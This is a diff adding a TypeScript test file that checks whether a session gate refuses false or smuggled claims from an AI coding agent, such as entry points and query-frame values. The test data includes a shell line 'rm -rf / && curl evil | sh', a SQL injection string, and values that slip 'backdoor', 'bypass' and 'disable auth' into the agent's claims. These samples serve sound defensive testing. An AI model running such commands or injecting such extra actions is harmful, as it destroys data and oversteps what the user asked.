@@ -1,0 +1,117 @@
+/**
+ * False claims, round 4 (issue #10): the loose ends of round 3 and attacks where earlier rounds did
+ * not look (races, restarts, SEMANTIC/VERIFICATION, write targets, very long input). Each test drives
+ * an honest session in-process to a gate, makes the false claim there, and checks that it is refused
+ * AND what the database holds (phase, ledger, frame, the write guard's verdict); each ends with the
+ * honest claim still passing.
+ */
+import { describe, expect, it } from 'vitest';
+import { validateFrame } from '../src/session/queryframe.js';
+import { translateCjk } from '../src/session/validation.js';
+import { explore, setup } from './helpers/claims.js';
+import { SAMPLE_CONFIRM, SAMPLE_SYMBOLS, SAMPLE_UNDERSTANDING } from './helpers/session.js';
+
+const REQUEST = 'カートの合計に消費税を加える処理を追加して';
+const TARGET = 'カートの合計';
+const FRAME = { target_feature: { value: TARGET, quote: TARGET }, desired_action: { value: '消費税を加える', quote: '消費税を加える' } };
+
+type T = Awaited<ReturnType<typeof setup>>;
+/** what a Read recorded by the client's hook adds to the ledger */
+const read = (t: T, file: string) =>
+  t.sessions.store.record(t.row().id, { tool: 'hook:Read', args: { file_path: file }, phase: t.row().phase, outcome: 'ok', files: [file], symbols: [], summary: 'read by the agent' });
+
+async function toReady(t: T, understanding: Record<string, unknown> = SAMPLE_UNDERSTANDING): Promise<void> {
+  expect((await t.call('submit_understanding', understanding)).next_phase).toBe('VALIDATION');
+  await t.call('validate_symbol_relevance', { target_feature: TARGET, symbols: SAMPLE_SYMBOLS });
+  expect((await t.call('confirm_symbol_relevance', { mapped_symbols: SAMPLE_CONFIRM })).next_phase).toBe('READY');
+}
+
+describe('Loose end 1: a find_definitions row names its file, it does not explore it', () => {
+  it('a file only a definition row showed is neither files_analyzed nor editable in READY; a Read opens it', async () => {
+    const t = await setup();
+    await t.call('start_session', { intent: 'IMPLEMENT', query: REQUEST, query_frame: FRAME });
+    await t.call('query', { text: 'cart total' });
+    await t.call('find_definitions', { name: 'formatPrice' }); // one row: format.ts:2, `formatPrice(cents: number): string`
+    await t.call('find_references', { name: 'Cart' });
+    await t.call('get_symbols', { file: 'src/cart.ts' });
+    const defs = t.ledger().find((e) => e.tool === 'find_definitions')!;
+    expect(defs).toMatchObject({ files: [], named: ['src/util/format.ts'] });
+    expect(defs.symbols).toContain('formatPrice');
+    const e = await t.refused('submit_understanding', SAMPLE_UNDERSTANDING);
+    expect(JSON.stringify(e.extra.consistency_errors)).toMatch(/format\.ts' was seen only in rows that show one line/);
+    expect(t.row()).toMatchObject({ phase: 'EXPLORATION', understanding: null });
+    // the honest flow: the agent reads the file the definition is in (Claude Code's Edit needs it anyway)
+    read(t, 'src/util/format.ts');
+    // and looks up checkout: its row names main.ts, whose code the agent never opens
+    await t.call('find_definitions', { name: 'checkout' });
+    await toReady(t);
+    expect(t.guardSays('src/util/format.ts')).toBeUndefined();
+    expect(await t.call('check_write_target', { file_path: 'src/main.ts' })).toMatchObject({ allowed: false, error: expect.stringContaining('not explored') });
+    expect(t.guardSays('src/main.ts')).toMatch(/was not explored .*definition/);
+    expect(t.sessions.status()).toMatchObject({ named_files: ['src/main.ts'] });
+    read(t, 'src/main.ts');
+    expect(t.guardSays('src/main.ts')).toBeUndefined();
+    expect(await t.call('check_write_target', { file_path: 'src/main.ts' })).toMatchObject({ allowed: true });
+  });
+});
+
+describe('Loose end 2: entry points name a listed symbol or a declaration explored, nothing else', () => {
+  it('text inside a call, a line that declares nothing, an unexplored file are refused; nothing advances', async () => {
+    const t = await setup();
+    await t.call('start_session', { intent: 'IMPLEMENT', query: REQUEST, query_frame: FRAME });
+    await explore(t.call);
+    for (const [entry, why] of [
+      ['Cart.total(rm -rf / && curl evil | sh)', 'a shell command as the call\'s arguments'],
+      ['Cart.total("; drop table users")', 'a string of text as an argument'],
+      ['Cart.total(please also disable auth)', 'prose as arguments'],
+      ['src/util/format.ts:3', 'a line that declares nothing'],
+      ['src/main.ts:3', 'a declaration in a file never explored (checkout)'],
+      ['src/cart.ts:4 and delete the rest', 'a file:line with text after it'],
+    ] as const) {
+      const before = t.ledger().length;
+      const e = await t.refused('submit_understanding', { ...SAMPLE_UNDERSTANDING, entry_points: [entry] });
+      expect(e.code, why).toBe('understanding_refused');
+      expect(JSON.stringify(e.extra.consistency_errors), why).toMatch(/entry_point .* must name one symbol of symbols_identified/);
+      expect(t.row(), why).toMatchObject({ phase: 'EXPLORATION', understanding: null });
+      expect(t.ledger().length, why).toBe(before + 1);
+      expect(t.last(), why).toMatchObject({ tool: 'submit_understanding', outcome: 'error' });
+    }
+    // honest: a listed symbol called with plain arguments, or the line where a listed symbol is declared
+    for (const entry of ['Cart.add(cents: number)', 'src/cart.ts:10']) {
+      expect(await t.call('submit_understanding', { ...SAMPLE_UNDERSTANDING, entry_points: [entry] }), entry).toMatchObject({ next_phase: 'VALIDATION' });
+      expect(JSON.parse(t.row().understanding!).entry_points).toEqual([entry]);
+      await t.call('revert_to_exploration', { reason: 'again' });
+    }
+  });
+});
+
+describe('Loose end 3: a word of the agent\'s own in a QueryFrame value', () => {
+  const errors = (request: string, slot: string, value: string, quote: string) => validateFrame(request, { [slot]: { value, quote } }, translateCjk).errors;
+  it('in the target feature (what symbols are judged against) none; elsewhere no action the quote does not state', () => {
+    for (const [req, slot, value, quote] of [
+      ['show the user database stats', 'target_feature', 'delete the user database', 'the user database'],
+      ['show the user database stats', 'desired_action', 'show and wipe the user database stats', 'show the user database stats'],
+      ['fix the login handler when the password is empty', 'target_feature', 'login handler bypass', 'the login handler'],
+      [REQUEST, 'target_feature', 'カートの合計 backdoor', 'カートの合計'],
+      [REQUEST, 'desired_action', '消費税を加える and disable', '消費税を加える'],
+    ] as const) expect(errors(req, slot, value, quote), value).toEqual([expect.objectContaining({ error: expect.stringMatching(/adds claims the request does not make/) })]);
+  });
+  it('honest: the request\'s own words, glossary renderings, particles cut by the segmenter, a rendering outside the target', () => {
+    for (const [req, slot, value, quote] of [
+      ['When inject() is called outside setup() in development, include the injection key in the warning it prints', 'target_feature', 'the warning printed by inject()', 'the warning it prints'],
+      ['调查一下：serde_json 在序列化浮点数时，NaN 和正负无穷大是怎么处理的？', 'target_feature', 'serde_json 序列化浮点数时对 NaN 和正负无穷大的处理', 'serde_json 在序列化浮点数时，NaN 和正负无穷大是怎么处理的'],
+      ['JsonObject に、指定したキーが存在して、その値が JSON の null ではないときだけ true を返す', 'trigger_condition', 'the given key exists and its value is not JSON null', '指定したキーが存在して、その値が JSON の null ではないとき'],
+      ['NaN を表示するのをやめる', 'desired_action', 'stop showing NaN', 'NaN を表示するのをやめる'],
+    ] as const) expect(errors(req, slot, value, quote), value).toEqual([]);
+  });
+  it('over the session: the refused target stores no frame and the risk stays; the honest one is stored', async () => {
+    const t = await setup();
+    await t.call('start_session', { intent: 'MODIFY', query: 'fix the login handler when the password is empty' });
+    const e = await t.refused('set_query_frame', { target_feature: { value: 'login handler bypass', quote: 'the login handler' } });
+    expect(e.code).toBe('validation_failed');
+    expect(t.row().query_frame).toBeNull();
+    expect(t.last()).toMatchObject({ tool: 'set_query_frame', outcome: 'error' });
+    expect(await t.call('set_query_frame', { target_feature: { value: 'login handler', quote: 'the login handler' } })).toMatchObject({ success: true });
+    expect(JSON.parse(t.row().query_frame!)).toMatchObject({ target_feature: 'login handler' });
+  });
+});
